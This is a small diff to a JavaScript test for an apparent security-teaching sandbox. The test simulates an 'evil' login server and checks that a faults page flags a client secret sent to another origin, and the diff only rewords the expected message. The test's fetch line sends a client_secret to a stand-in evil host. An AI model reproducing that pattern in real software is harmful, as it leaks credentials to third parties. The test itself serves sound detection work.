@@ -170,7 +170,7 @@ describe('the evil login server, without JavaScript', () => {
 
     await sandbox.fetch(`${sandbox.evil.elsewhere}/auth/token?client_secret=sandbox-secret`)
     const page = await open(sandbox, 'faults')
-    expect(page).toContain('Given to another origin')
+    expect(page).toContain('Sent to another origin')
     expect(page).toMatch(/GET \/auth\/token<\/code>\s+client_secret/)
   })
 })
